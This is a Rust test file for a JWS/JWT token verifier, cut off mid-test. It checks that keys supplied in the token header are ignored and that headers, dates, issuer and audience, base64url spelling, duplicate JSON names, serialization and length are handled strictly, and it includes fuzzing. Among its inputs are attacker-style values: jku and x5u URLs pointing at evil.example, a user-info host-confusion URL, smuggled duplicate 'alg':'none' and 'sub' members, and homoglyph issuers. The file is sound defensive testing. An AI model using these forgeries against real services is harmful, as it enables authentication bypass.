        assert_eq!(verdict(&keys, Kind::Session, &token), Err(JwsError::Malformed), "{kid}");
    }
    assert!(began.elapsed() < Duration::from_secs(3));
    // A key without a name stands for no name, not for every one.
    assert_eq!(session(&token(&hs256(), &json!("site-1"))), Err(JwsError::UnknownKey));
    assert_eq!(session(&token(&hs256(), &json!(""))), Err(JwsError::UnknownKey));
}

#[test]
fn a_key_that_the_token_brings_along_is_not_used() {
    // S-JWS-5, CVE-2018-0114. That nothing is fetched needs no listener here: this module has no network to use.
    let attackers = [
        Signer::hmac(b"fedcba9876543210fedcba9876543210"),
        Signer::rsa(Algorithm::RS256),
        Signer::ec(),
    ];
    let ours = [hs256(), Signer::rsa(Algorithm::RS256), Signer::ec()];
    for (attacker, our) in attackers.iter().zip(&ours) {
        let certificate = crate::encoding::base64(attacker.public.first().map_or(&[][..], Vec::as_slice));
        for (name, value) in [
            ("jwk", attacker.jwk.clone()),
            ("jwk", json!({"keys": [attacker.jwk]})),
            ("jku", json!("https://evil.example/jwks.json")),
            ("jku", json!("https://www.example.com@evil.example/jwks.json")),
            ("x5u", json!("https://evil.example/chain.pem")),
            ("x5c", json!([certificate])),
            ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
            ("x5t#S256", json!(base64url([0; 32]))),
            ("kid", json!("https://evil.example/jwks.json")),
        ] {
            let token = attacker.token(Kind::Session, |header, _| header[name] = value.clone());
            let verdict = verdict(&our.keys(), Kind::Session, &token);
            let expected = if name == "kid" {
                JwsError::UnknownKey
            } else {
                JwsError::Signature
            };
            assert_eq!(verdict, Err(expected), "{name}");
        }
        let token = attacker.token(Kind::Session, |_, payload| {
            payload["iss"] = json!("https://evil.example");
        });
        assert_eq!(verdict(&our.keys(), Kind::Session, &token), Err(JwsError::Signature));
    }
    let token = hs256().token(Kind::Session, |_, payload| {
        payload["iss"] = json!("https://evil.example");
    });
    assert_eq!(session(&token), Err(JwsError::Claim("iss")));
}

// The header. S-JWS-6, S-JWS-7.

#[test]
fn a_header_extension_is_refused_critical_or_not() {
    // S-JWS-6, and S-JWS-7 for `cty`.
    for (name, value) in [
        ("crit", json!(["http://example.invalid/UNDEFINED"])),
        ("crit", json!(["exp"])),
        ("crit", json!(["alg"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["typ", "typ"])),
        ("crit", json!([])),
        ("crit", json!([""])),
        ("crit", json!([1])),
        ("crit", json!("exp")),
        ("crit", json!({})),
        ("crit", json!(null)),
        ("crit", json!(false)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("b64", json!("false")),
        ("b64", json!(null)),
        ("cty", json!("JWT")),
        ("cty", json!("jwt")),
        ("cty", json!("application/json")),
        ("cty", json!(null)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
    ] {
        for kind in KINDS {
            let token = hs256().token(kind, |header, _| header[name] = value.clone());
            assert_eq!(verdict(&hs256().keys(), kind, &token), Err(JwsError::Header), "{name}");
        }
    }
    // The names are compared to the letter: these say nothing to anybody.
    for name in ["CRIT", "Crit", "B64", "CTY"] {
        let token = hs256().token(Kind::Session, |header, _| header[name] = json!(["x"]));
        assert_eq!(session(&token), Ok(()), "{name}");
    }
}

#[test]
fn an_unencoded_payload_is_refused() {
    // S-JWS-6, RFC 7797.
    let header = base64url(json!({"alg": "HS256", "typ": "JWT", "b64": false, "crit": ["b64"]}).to_string());
    let payload = claims().to_string();
    assert_eq!(
        session(&hs256().sign_input(&format!("{header}.{payload}"))),
        Err(JwsError::Malformed)
    );
    let letters_only = hs256().sign_input(&format!("{header}.abcd"));
    assert_eq!(session(&letters_only), Err(JwsError::Header));
    // Detached, RFC 7515 Appendix F.
    let token = hs256().good(Kind::Session);
    let [header, _, signature] = segments(&token);
    assert_eq!(session(&format!("{header}..{signature}")), Err(JwsError::Signature));
}

#[test]
fn the_kinds_never_stand_in_for_one_another() {
    // S-JWS-7.
    let keys = hs256().keys();
    for made in KINDS {
        for asked in KINDS {
            let expected = if made == asked { Ok(()) } else { Err(JwsError::Typ) };
            assert_eq!(
                verdict(&keys, asked, &hs256().good(made)),
                expected,
                "{made:?} as {asked:?}"
            );
        }
    }
}

#[test]
fn typ_is_a_media_type() {
    // S-JWS-7, RFC 7515 §4.1.9.
    let keys = hs256().keys();
    let with_typ = |kind, typ: &Value| {
        let token = hs256().token(kind, |header, _| header["typ"] = typ.clone());
        verdict(&keys, kind, &token)
    };
    for kind in KINDS {
        let typ = typ(kind);
        for good in [
            typ.to_owned(),
            typ.to_lowercase(),
            typ.to_uppercase(),
            format!("application/{typ}"),
            format!("Application/{typ}"),
            format!("APPLICATION/{typ}"),
        ] {
            assert_eq!(with_typ(kind, &json!(good)), Ok(()), "{good:?}");
        }
        for bad in [
            String::new(),
            format!("{typ} "),
            format!(" {typ}"),
            format!("{typ}\n"),
            format!("{typ}\u{0}"),
            format!("{typ};charset=utf-8"),
            format!("/{typ}"),
            format!("application/ {typ}"),
            format!("application/application/{typ}"),
            format!("text/{typ}"),
            typ.replacen(['s', 'J'], "ſ", 1),
            format!("x{typ}"),
            "at+jwt".to_owned(),
            "JOSE".to_owned(),
            "JWS".to_owned(),
            "application/".to_owned(),
            "none".to_owned(),
        ] {
            assert_eq!(with_typ(kind, &json!(bad)), Err(JwsError::Typ), "{bad:?}");
        }
        for bad in [json!(null), json!(1), json!(true), json!([typ]), json!({})] {
            assert_eq!(with_typ(kind, &bad), Err(JwsError::Malformed), "{bad}");
        }
        let without = hs256().token(kind, |header, _| *header = without(header.take(), "typ"));
        let expected = if kind == Kind::Session {
            Ok(())
        } else {
            Err(JwsError::Typ)
        };
        assert_eq!(verdict(&keys, kind, &without), expected);
    }
}

// The dates. S-JWS-8, S-TIME-1.

#[test]
fn a_date_that_is_missing_or_no_date_is_refused() {
    // S-JWS-8.
    for name in ["exp", "iat"] {
        let token = hs256().token(Kind::Session, |_, payload| *payload = without(payload.take(), name));
        assert_eq!(session(&token), Err(JwsError::Claim(name)));
    }
    for name in ["exp", "iat", "nbf"] {
        for bad in [
            "\"1767225650\"",
            "\"\"",
            "\"2026-01-01T00:00:00Z\"",
            "true",
            "false",
            "null",
            "[1767225650]",
            "{}",
            "-1",
            "-1767225650",
            "-0.5",
            "-9223372036854775808",
            "-9223372036854775809",
            "9223372036854775808",
            "18446744073709551615",
            "18446744073709551616",
            "9007199254740992.0",
            "1e300",
            "-1e300",
        ] {
            assert_eq!(
                session(&with_claim(name, bad)),
                Err(JwsError::Claim(name)),
                "{name} {bad}"
            );
        }
        for bad in [
            "1e400",
            "-1e400",
            "NaN",
            "Infinity",
            "-Infinity",
            "01767225650",
            "+1767225650",
            "0x6955b932",
            "1767225650.",
            ".5",
            "1_0",
            "",
        ] {
            assert_eq!(
                session(&with_claim(name, bad)),
                Err(JwsError::Malformed),
                "{name} {bad}"
            );
        }
    }
}

#[test]
fn a_date_in_the_wrong_unit_or_far_away_is_refused() {
    // S-JWS-8.
    for (name, date, expected) in [
        ("exp", "1767225700000", JwsError::Claim("exp")),
        ("exp", "1767225700000000", JwsError::Claim("exp")),
        ("exp", "9223372036854775807", JwsError::Claim("exp")),
        ("exp", "9223372036854775800", JwsError::Claim("exp")),
        ("exp", "1e15", JwsError::Claim("exp")),
        ("exp", "0", JwsError::Expired),
        ("exp", "1767225", JwsError::Expired),
        ("iat", "1767225600000", JwsError::Claim("exp")),
        ("iat", "9223372036854775807", JwsError::Claim("exp")),
        ("iat", "0", JwsError::Claim("exp")),
        ("iat", "1767225", JwsError::Claim("exp")),
        ("nbf", "1767225600000", JwsError::NotYet),
        ("nbf", "9223372036854775807", JwsError::NotYet),
    ] {
        assert_eq!(session(&with_claim(name, date)), Err(expected), "{name} {date}");
    }
    // All of them in milliseconds.
    let in_milliseconds = hs256().token(Kind::Session, |_, payload| {
        payload["iat"] = json!(NOW * 1000);
        payload["exp"] = json!((NOW + 100) * 1000);
    });
    assert_eq!(session(&in_milliseconds), Err(JwsError::NotYet));
    for good in ["0", "1767225600", "1767225600.9", "1.7672256e9", "1767225600.0"] {
        assert_eq!(session(&with_claim("nbf", good)), Ok(()), "{good}");
    }
    for good in ["1767225700.5", "1.7672257E9", "1767225700.0"] {
        let verified = verify_at(&hs256().keys(), Kind::Session, &with_claim("exp", good), NOW).unwrap();
        assert_eq!(verified.expires_at, NOW + 100, "{good}");
    }
}

#[test]
fn a_life_is_as_long_as_its_kind_may_live_and_not_a_second_longer() {
    // S-JWS-8.
    let keys = hs256().keys();
    for (kind, longest) in [(Kind::Session, 400 * DAY), (Kind::Handoff, 120), (Kind::Request, 300)] {
        for (life, expected) in [
            (longest, Ok(())),
            (longest + 1, Err(JwsError::Claim("exp"))),
            (1, Ok(())),
            (0, Err(JwsError::Claim("exp"))),
            (-1, Err(JwsError::Claim("exp"))),
        ] {
            let token = hs256().token(kind, |_, payload| payload["exp"] = json!(NOW + life));
            assert_eq!(verdict(&keys, kind, &token), expected, "{kind:?} {life}");
        }
        // However far along it is.
        let token = hs256().token(kind, |_, payload| {
            payload["iat"] = json!(NOW - longest);
            payload["exp"] = json!(NOW + 1);
        });
        assert_eq!(verdict(&keys, kind, &token), Err(JwsError::Claim("exp")));
    }
}

#[test]
fn clocks_may_differ_by_a_minute() {
    // S-TIME-1.
    let keys = hs256().keys();
    let at = |now, change: &dyn Fn(&mut Value)| {
        let token = hs256().token(Kind::Session, |_, payload| change(payload));
        verdict_at(&keys, Kind::Session, &token, now)
    };
    let as_it_is = |_: &mut Value| {};
    let exp = NOW + 100;
    for (seconds, expected) in [
        (-1, Ok(())),
        (0, Ok(())),
        (1, Ok(())),
        (59, Ok(())),
        (60, Err(JwsError::Expired)),
        (61, Err(JwsError::Expired)),
    ] {
        assert_eq!(at(exp + seconds, &as_it_is), expected, "{seconds} s after exp");
    }
    for (seconds, expected) in [
        (0, Ok(())),
        (5, Ok(())),
        (59, Ok(())),
        (60, Ok(())),
        (61, Err(JwsError::NotYet)),
    ] {
        assert_eq!(at(NOW - seconds, &as_it_is), expected, "{seconds} s before iat");
        let not_before = |payload: &mut Value| payload["nbf"] = json!(NOW + 50);
        assert_eq!(at(NOW + 50 - seconds, &not_before), expected, "{seconds} s before nbf");
    }
    let too_late = |payload: &mut Value| payload["nbf"] = json!(exp + 61);
    assert_eq!(at(exp, &too_late), Err(JwsError::NotYet));
}

#[test]
fn no_clock_makes_the_verifier_stumble() {
    // S-TIME-1.
    let keys = hs256().keys();
    let tokens = [
        ("iat", 0),
        ("exp", i64::MAX),
        ("exp", 0),
        ("nbf", i64::MAX),
        ("iat", i64::MAX),
        ("sub", 0),
        ("nbf", 0),
    ]
    .map(|(name, date)| hs256().token(Kind::Session, |_, payload| payload[name] = json!(date)));
    for now in [
        i64::MIN,
        i64::MIN + 1,
        i64::MIN + 59,
        -61,
        -1,
        0,
        1,
        i64::MAX - 61,
        i64::MAX - 1,
        i64::MAX,
    ] {
        for token in &tokens {
            assert!(verdict_at(&keys, Kind::Session, token, now).is_err(), "{now}");
        }
    }
    let good = hs256().good(Kind::Session);
    for now in [i64::MIN, 0] {
        assert_eq!(verdict_at(&keys, Kind::Session, &good, now), Err(JwsError::NotYet));
    }
    assert_eq!(
        verdict_at(&keys, Kind::Session, &good, i64::MAX),
        Err(JwsError::Expired)
    );
    // A token from 1970, and one from the end of time.
    for iat in [0, i64::MAX - 200] {
        let token = hs256().token(Kind::Session, |_, payload| {
            payload["iat"] = json!(iat);
            payload["exp"] = json!(iat + 100);
        });
        assert_eq!(verdict_at(&keys, Kind::Session, &token, iat), Ok(()));
    }
}

// The other claims. S-JWS-9, S-JWS-10.

#[test]
fn an_issuer_or_audience_that_is_not_exactly_ours_is_refused() {
    // S-JWS-9.
    for (name, right) in [("iss", ISSUER), ("aud", AUDIENCE)] {
        let token = hs256().token(Kind::Session, |_, payload| *payload = without(payload.take(), name));
        assert_eq!(session(&token), Err(JwsError::Claim(name)));
        for wrong in [
            json!(""),
            json!("https://other.example.com"),
            json!("*"),
            json!(right[..right.len() - 1]),
            json!(format!("{right}/")),
            json!(format!("{right}.evil.example")),
            json!(format!("{right}\u{0}")),
            json!(format!("{right} ")),
            json!(format!(" {right}")),
            json!(format!("{right} https://other.example.com")),
            json!(right.to_uppercase()),
            json!(right.replace("https", "http")),
            json!(right.replace("example", "ехample")),
            json!(right.trim_start_matches("https://")),
            json!(1),
            json!(true),
            json!(null),
            json!({right: true}),
            json!([]),
            json!([""]),
            json!([1]),
            json!([[right]]),
            json!([right, right]),
            json!([right, "https://other.example.com"]),
            json!(["https://other.example.com", right]),
            json!([right, 1]),
        ] {
            let token = hs256().token(Kind::Session, |_, payload| payload[name] = wrong.clone());
            assert_eq!(session(&token), Err(JwsError::Claim(name)), "{name} {wrong}");
        }
        let swapped = hs256().token(Kind::Session, |_, payload| {
            payload["iss"] = json!(AUDIENCE);
            payload["aud"] = json!(ISSUER);
        });
        assert_eq!(session(&swapped), Err(JwsError::Claim("iss")));
        let other_case = hs256().token(Kind::Session, |_, payload| {
            *payload = without(payload.take(), name);
            payload[name.to_uppercase()] = json!(right);
        });
        assert_eq!(session(&other_case), Err(JwsError::Claim(name)));
    }
}

#[test]
fn an_audience_may_be_a_list_of_one_and_an_issuer_may_not() {
    // S-JWS-9.
    let one = |name: &str, value: &str| hs256().token(Kind::Session, |_, payload| payload[name] = json!([value]));
    assert_eq!(session(&one("aud", AUDIENCE)), Ok(()));
    assert_eq!(session(&one("iss", ISSUER)), Err(JwsError::Claim("iss")));
}

#[test]
fn a_subject_that_is_missing_or_no_text_is_refused() {
    // S-JWS-9.
    let token = hs256().token(Kind::Session, |_, payload| *payload = without(payload.take(), "sub"));
    assert_eq!(session(&token), Err(JwsError::Claim("one of its own")));
    for sub in [json!(1), json!(true), json!(null), json!(["ada"]), json!({"ada": 1})] {
        let token = hs256().token(Kind::Session, |_, payload| payload["sub"] = sub.clone());
        assert_eq!(session(&token), Err(JwsError::Claim("one of its own")), "{sub}");
    }
}

#[test]
fn a_token_that_works_once_has_a_name_of_1_to_255_characters() {
    // S-JWS-10.
    let keys = hs256().keys();
    for kind in KINDS {
        let with_jti = |jti: &Value| {
            let token = hs256().token(kind, |_, payload| payload["jti"] = jti.clone());
            verdict(&keys, kind, &token)
        };
        for good in ["1", &"j".repeat(255), "4f1d 2a", "ключ"] {
            assert_eq!(with_jti(&json!(good)), Ok(()), "{good}");
        }
        for bad in [
            json!(""),
            json!("j".repeat(256)),
            json!("j".repeat(2000)),
            json!("4f\u{0}1d"),
            json!("4f1d\n"),
            json!("4f\u{7f}1d"),
            json!(7),
            json!(1.5),
            json!(null),
            json!(true),
            json!(["4f1d"]),
            json!({}),
        ] {
            assert_eq!(with_jti(&bad), Err(JwsError::Claim("jti")), "{bad}");
        }
        let without = hs256().token(kind, |_, payload| *payload = without(payload.take(), "jti"));
        let expected = if kind == Kind::Session {
            Ok(())
        } else {
            Err(JwsError::Claim("jti"))
        };
        assert_eq!(verdict(&keys, kind, &without), expected);
    }
}

#[test]
fn a_claim_is_looked_at_only_when_the_signature_holds() {
    for bad in ["not JSON", "[]", "{}", r#"{"a":1,"a":2}"#] {
        let token = hs256().sign_bytes(r#"{"alg":"HS256"}"#, bad);
        assert_eq!(session(&flipped(&token)), Err(JwsError::Signature), "{bad}");
    }
}

// The spelling. S-JWS-11, S-JWS-12, S-JWS-13.

#[test]
fn a_segment_that_is_not_canonical_base64url_is_refused_though_it_is_signed_so() {
    // S-JWS-11. Both segments end with bits left over, and have characters in which the alphabets differ.
    let header = base64url(r#"{"alg":"HS256","typ":"JWT","x":"??>>~~"}"#);
    let mut payload = claims();
    payload["sub"] = json!("??>>~~?>");
    let mut payload = payload.to_string();
    while payload.len().is_multiple_of(3) {
        payload.push(' ');
    }
    let payload = base64url(payload);
    assert_eq!(session(&hs256().sign_input(&format!("{header}.{payload}"))), Ok(()));
    let spoiled = |segment: &str| {
        let in_the_middle = |text: &str| format!("{}{text}{}", &segment[..8], &segment[8..]);
        assert!(segment.contains(['-', '_']));
        vec![
            format!("{segment}="),
            format!("{segment}=="),
            format!("{segment}{}", &"===="[segment.len() % 4..]),
            segment.replace('-', "+").replace('_', "/"),
            with_unused_bit(segment),
            format!(" {segment}"),
            format!("{segment} "),
            format!("\t{segment}"),
            format!("{segment}\n"),
            format!("{segment}\r\n"),
            format!("{segment}\u{0}"),
            in_the_middle("\n"),
            in_the_middle("\r\n"),
            in_the_middle(" "),
            in_the_middle("="),
            in_the_middle("%"),
            in_the_middle("é"),
            format!("{segment}A").chars().take(segment.len() / 4 * 4 + 1).collect(),
            segment.replacen('e', "%65", 1),
        ]
    };
    for bad in spoiled(&header) {
        assert_eq!(
            session(&hs256().sign_input(&format!("{bad}.{payload}"))),
            Err(JwsError::Malformed),
            "{bad:?}"
        );
    }
    for bad in spoiled(&payload) {
        assert_eq!(
            session(&hs256().sign_input(&format!("{header}.{bad}"))),
            Err(JwsError::Malformed),
            "{bad:?}"
        );
    }
    // A signature has both characters only by chance.
    let (token, signature) = (0..)
        .map(|turn| {
            hs256().sign_input(&format!(
                "{}.{payload}",
                base64url(format!(r#"{{"alg":"HS256","x":{turn}}}"#))
            ))
        })
        .find_map(|token| {
            let signature = segments(&token)[2].to_owned();
            signature.contains(['-', '_']).then_some((token, signature))
        })
        .unwrap();
    assert_eq!(session(&token), Ok(()));
    for bad in spoiled(&signature) {
        let token = token.replace(&signature, &bad);
        assert_eq!(session(&token), Err(JwsError::Malformed), "{bad:?}");
    }
}

#[test]
fn a_name_said_twice_is_refused() {
    // S-JWS-12.
    for header in [
        r#"{"alg":"HS256","alg":"HS256"}"#,
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"HS256","\u0061lg":"none"}"#,
        r#"{"\u0061\u006c\u0067":"HS256","alg":"HS256"}"#,
        r#"{"alg":"HS256","typ":"JWT","typ":"soa-request+jwt"}"#,
        r#"{"alg":"HS256","x":{"y":1,"y":1}}"#,
        r#"{"alg":"HS256","x":[[{"y":1,"\u0079":2}]]}"#,
    ] {
        let token = hs256().sign_bytes(header, claims().to_string());
        assert_eq!(session(&token), Err(JwsError::Malformed), "{header}");
    }
    let good = claims().to_string();
    let good = good.trim_end_matches('}');
    for more in [
        r#","sub":"ada"}"#,
        r#","sub":"eve"}"#,
        r#","\u0073ub":"eve"}"#,
        r#","s\u0075\u0062":"eve"}"#,
        r#","exp":9999999999}"#,
        r#","\u0065xp":9999999999}"#,
        r#","aud":"https://link.example.com"}"#,
        r#","x":{"y":1,"y":1}}"#,
        r#","x":{"y":{"z":null,"\u007a":null}}}"#,
        r#","x":[0,{"y":1,"y":2}]}"#,
        r#","x":{"":1,"":1}}"#,
        r#","x":{"/":1,"\/":1}}"#,
    ] {
        let token = hs256().sign_bytes(r#"{"alg":"HS256"}"#, format!("{good}{more}"));
        assert_eq!(session(&token), Err(JwsError::Malformed), "{more}");
    }
    // Escaped but once, in another case, or at another depth, it is another name.
    for more in [
        r#","\u0078":1}"#,
        r#","SUB":"eve","Sub":"eve"}"#,
        r#","x":{"sub":"eve"},"y":[{"sub":1},{"sub":2}]}"#,
    ] {
        let token = hs256().sign_bytes(r#"{"alg":"HS256"}"#, format!("{good}{more}"));
        let verified = verify_at(&hs256().keys(), Kind::Session, &token, NOW).unwrap();
        assert_eq!(verified.claims.sub, "ada", "{more}");
    }
}

/// What is not one JSON object in UTF-8, made of the bytes of one.
fn not_an_object(good: &str) -> Vec<Vec<u8>> {
    let nested = |open: &str, close: &str| format!("{}{}", open.repeat(200), close.repeat(200));
    let inside = |value: &str| good.replacen('{', &format!("{{\"deep\":{value},"), 1);
    let mut texts = vec![
        String::new(),
        " ".to_owned(),
        "null".to_owned(),
        "true".to_owned(),
        "7".to_owned(),
        "\"HS256\"".to_owned(),
        "[]".to_owned(),
        format!("[{good}]"),
        json!(good).to_string(),
        "{".to_owned(),
        good.trim_end_matches('}').to_owned(),
        format!("{good}{good}"),
        format!("{good},"),
        format!("{good}}}"),
        format!("{good} x"),
        format!("{good}\u{0}"),
        format!("{good}//"),
        format!("\u{feff}{good}"),
        format!("\u{a0}{good}"),
        format!(")]}}'\n{good}"),
        good.replacen('{', "{/**/", 1),
        good.replacen('}', ",}", 1),
        good.replace('"', "'"),
        good.replacen('"', "", 2),
        good.replacen(':', "=", 1),
        inside("\"\n\""),
        inside("\"\\x41\""),
        inside("\"\\ud800\""),
        inside("\"\\udc00\\ud800\""),
        inside("NaN"),
        inside("1e400"),
        inside("tru"),
        inside(&nested("[", "]")),
        inside(&nested("{\"a\":", "}").replacen(":}", ":1}", 1)),
        nested("[", "]"),
        inside(&"[".repeat(2000)),
    ];
    texts.retain(|text| text != good);
    let mut all: Vec<_> = texts.into_iter().map(String::into_bytes).collect();
    let utf_16: Vec<_> = good.encode_utf16().collect();
    let little: Vec<_> = utf_16.iter().flat_map(|unit| unit.to_le_bytes()).collect();
    let big: Vec<_> = utf_16.iter().flat_map(|unit| unit.to_be_bytes()).collect();
    all.extend([
        [&[0xff, 0xfe], little.as_slice()].concat(),
        [&[0xfe, 0xff], big.as_slice()].concat(),
        little,
        big,
        good.chars()
            .flat_map(|letter| u32::from(letter).to_be_bytes())
            .collect(),
    ]);
    for invalid in [
        &[0xff][..],
        &[0x80],
        &[0xc0, 0xaf],
        &[0xed, 0xa0, 0x80],
        &[0xf5, 0x80, 0x80, 0x80],
        &[0xc3],
    ] {
        all.push([b"{\"x\":\"", invalid, b"\",", &good.as_bytes()[1..]].concat());
        all.push([b"{\"", invalid, b"\":1,", &good.as_bytes()[1..]].concat());
    }
    all
}

#[test]
fn what_is_not_one_json_object_is_refused() {
    // S-JWS-12.
    let (header, payload) = (json!({"alg": "HS256", "typ": "JWT"}).to_string(), claims().to_string());
    for bad in not_an_object(&header) {
        let token = hs256().sign_bytes(&bad, &payload);
        assert_eq!(
            session(&token),
            Err(JwsError::Malformed),
            "{}",
            String::from_utf8_lossy(&bad)
        );
    }
    for bad in not_an_object(&payload) {
        let token = hs256().sign_bytes(&header, &bad);
        assert_eq!(
            session(&token),
            Err(JwsError::Malformed),
            "{}",
            String::from_utf8_lossy(&bad)
        );
    }
    // White space around the object is JSON (RFC 8259 §2).
    assert_eq!(
        session(&hs256().sign_bytes(format!(" {header}\r\n"), format!("\t{payload}\n"))),
        Ok(())
    );
}

#[test]
fn what_is_not_one_compact_serialization_is_refused() {
    // S-JWS-13.
    let token = hs256().good(Kind::Session);
    let [header, payload, signature] = segments(&token);
    let general = json!({"payload": payload, "signatures": [{"protected": header, "signature": signature}]});
    let flattened = json!({"payload": payload, "protected": header, "signature": signature});
    for bad in [
        String::new(),
        ".".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
        "....".to_owned(),
        header.to_owned(),
        format!("{header}.{payload}"),
        format!("{header}.{payload}."),
        format!(".{payload}.{signature}"),
        format!("{header}.{payload}.{signature}."),
        format!(".{header}.{payload}.{signature}"),
        format!("{header}..{payload}.{signature}"),
        format!("{header}.{payload}..{signature}"),
        format!("{header}.{payload}.{signature}.{signature}"),
        format!("{header}.{payload}.{payload}.{payload}.{signature}"),
        format!("{header}.{payload}\u{2024}{signature}"),
        general.to_string(),
        flattened.to_string(),
        format!("Bearer {token}"),
        format!("bearer {token}"),
        format!("Bearer{token}."),
        format!("{token} {token}"),
        format!("{token},{token}"),
        format!("{token};{token}"),
        format!("{token}{token}"),
        format!("{token}.{token}"),
        format!("{token}\n{token}"),
        format!("\"{token}\""),
        format!("{token}\n"),
        format!(" {token}"),
        format!("\u{feff}{token}"),
        token.replace('.', "%2E"),
        "e30.e30.é".to_owned(),
    ] {
        assert_eq!(session(&bad), Err(JwsError::Malformed), "{bad:?}");
    }
    // Nested: a token whose payload is a token, and not by the header's own word.
    let nested = hs256().sign_bytes(r#"{"alg":"HS256","typ":"JWT"}"#, &token);
    assert_eq!(session(&nested), Err(JwsError::Malformed));
    // An unprotected member of the JSON serialization does not come in through the payload.
    let payload = json!({"payload": payload, "signatures": [], "header": {"alg": "none"}});
    assert_eq!(
        session(&hs256().sign(&json!({"alg": "HS256"}), &payload)),
        Err(JwsError::Claim("iss"))
    );
}

#[test]
fn an_overlong_token_is_refused_at_once() {
    // S-JWS-13.
    let padded = |length: usize| hs256().token(Kind::Session, |_, payload| payload["x"] = json!("x".repeat(length)));
    let growing: Vec<_> = (5_900..6_000).map(padded).collect();
    let (within, above): (Vec<_>, Vec<_>) = growing.iter().partition(|token| token.len() <= 8 * 1024);
    assert!(!within.is_empty() && !above.is_empty());
    for token in within {
        assert_eq!(session(token), Ok(()));
    }
    for token in above {
        assert_eq!(session(token), Err(JwsError::Malformed));
    }
    for length in [8 * 1024 + 1, 64 * 1024, 1024 * 1024] {
        let token = padded(length);
        let long_signature = format!("{}{}", padded(1), "A".repeat(length / 4 * 4));
        let texts = [".", "A", "e30.", "é", "{", " ", "\u{0}"].map(|text| text.repeat(length));
        let began = Instant::now();
        for text in [&token, &long_signature].into_iter().chain(&texts) {
            assert_eq!(session(text), Err(JwsError::Malformed));
        }
        assert!(began.elapsed() < Duration::from_secs(3));
    }
}

// What holds for all.

static SIGNERS: LazyLock<Vec<(KeySet, String)>> = LazyLock::new(|| {
    Signer::all()
        .iter()
        .map(|signer| (signer.keys(), signer.good(Kind::Handoff)))
        .collect()
});

/// JSON of any shape, its numbers whole.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<i32>().prop_map(|number| Value::from(f64::from(number) / 4.0)),
        any::<String>().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 32, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::hash_map(any::<String>(), inner, 0..6)
                .prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    })
}

proptest! {
    #[test]
    fn any_flipped_bit_of_a_good_token_fails(signer in 0..5_usize, place: prop::sample::Index, bit in 0..8_u32) {
        let (keys, token) = &SIGNERS[signer];
        prop_assert_eq!(verdict(keys, Kind::Handoff, token), Ok(()));
        let mut bytes = token.clone().into_bytes();
        let place = place.index(bytes.len());
        bytes[place] ^= 1 << bit;
        // The highest bit makes it no text at all.
        if let Ok(token) = String::from_utf8(bytes) {
            prop_assert!(verdict(keys, Kind::Handoff, &token).is_err());
        }
    }

    #[test]
    fn any_flipped_bit_of_what_a_good_token_says_fails(
        signer in 0..5_usize, segment in 0..3_usize, place: prop::sample::Index, bit in 0..8_u32,
    ) {
        let (keys, token) = &SIGNERS[signer];
        let mut parts = segments(token).map(|segment| from_base64url(segment).unwrap());
        let place = place.index(parts[segment].len());
        parts[segment][place] ^= 1 << bit;
        let token = parts.map(base64url).join(".");
        let verdict = verdict(keys, Kind::Handoff, &token);
        if segment == 0 {
            prop_assert!(verdict.is_err());
        } else {
            prop_assert_eq!(verdict, Err(JwsError::Signature));
        }
    }

    #[test]
    fn a_good_token_with_something_cut_out_put_in_or_left_off_fails(
        signer in 0..5_usize, from: prop::sample::Index, length in 0..8_usize, put_in in "[A-Za-z0-9._=-]{0,4}",
    ) {
        let (keys, token) = &SIGNERS[signer];
        let from = from.index(token.len());
        let to = (from + length).min(token.len());
        let changed = format!("{}{put_in}{}", &token[..from], &token[to..]);
        prop_assert_eq!(verdict(keys, Kind::Handoff, &changed).is_ok(), changed == *token);
    }

    #[test]
    fn no_text_makes_the_parser_stumble(text in any::<String>(), letters in "[A-Za-z0-9_.=-]{0,200}") {
        for text in [text, letters] {
            prop_assert!(session(&text).is_err());
        }
    }

    #[test]
    fn no_bytes_make_the_parser_stumble(header: Vec<u8>, payload: Vec<u8>, signature: Vec<u8>) {
        let token = [&header, &payload, &signature].map(base64url).join(".");
        prop_assert!(session(&token).is_err());
        // Nor do they behind a good signature.
        prop_assert!(session(&hs256().sign_bytes(&header, &payload)).is_err());
        prop_assert_eq!(session(&hs256().sign_bytes(r#"{"alg":"HS256"}"#, &payload)), Err(JwsError::Malformed));
    }

    #[test]
    fn what_parses_is_the_only_spelling_of_its_bytes(
        header in any_json(), payload: Vec<u8>, signature in prop::collection::vec(any::<u8>(), 1..70), place: prop::sample::Index,
        letter in "[A-Za-z0-9_=+/ -]",
    ) {
        let token = [header.to_string().as_bytes(), &payload, &signature].map(base64url).join(".");
        prop_assert_eq!(UnverifiedJws::parse(&token).is_ok(), header.is_object());
        let place = place.index(token.len());
        let changed = format!("{}{letter}{}", &token[..place], &token[place + 1..]);
        if UnverifiedJws::parse(&changed).is_ok() {
            let bytes = segments(&changed).map(|segment| from_base64url(segment).unwrap());
            prop_assert_eq!(bytes.map(base64url).join("."), changed);
        }
    }

    #[test]
    fn an_object_that_repeats_nothing_is_read_as_it_is(object in any_json()) {
        let text = object.to_string();
        let read = Members::parse(text.as_bytes()).map(|members| Value::Object(members.0));
        prop_assert_eq!(read.is_some(), object.is_object());
        if let Some(read) = read {
            // What is written of it is read again as the same.
            prop_assert_eq!(&read, &serde_json::from_str::<Value>(&text).unwrap());
            let again = Members::parse(read.to_string().as_bytes()).unwrap();
            prop_assert_eq!(Value::Object(again.0), read);
        }
    }

    #[test]
    fn any_date_gets_a_verdict(
        iat in any::<i64>(), exp in any::<i64>(), nbf in any::<i64>(), now in any::<i64>(), near in -200_i64..200, kind in 0..3_usize,
    ) {
        let kind = KINDS[kind];
        let keys = hs256().keys();
        let token = |iat: i64, exp: i64, nbf: i64| hs256().token(kind, |_, payload| {
            payload["iat"] = json!(iat);
            payload["exp"] = json!(exp);
            payload["nbf"] = json!(nbf);
        });
        // Nothing random is a token for now; what counts is that nothing overflows.
